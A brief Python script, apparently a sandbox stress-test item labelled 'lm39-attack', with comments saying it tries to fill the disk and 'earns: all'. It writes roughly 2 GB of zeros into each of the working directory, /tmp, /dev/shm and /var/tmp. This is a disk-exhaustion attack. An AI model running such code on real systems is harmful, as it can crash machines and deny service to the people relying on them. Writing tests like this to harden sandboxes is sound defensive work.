# tries: fill the disk
# earns: all
for place in (".", "/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(f"{place}/lm39-attack", "wb") as file:
            for _ in range(2000):
                file.write(bytes(1 << 20))
    except OSError as error:
        print(error)
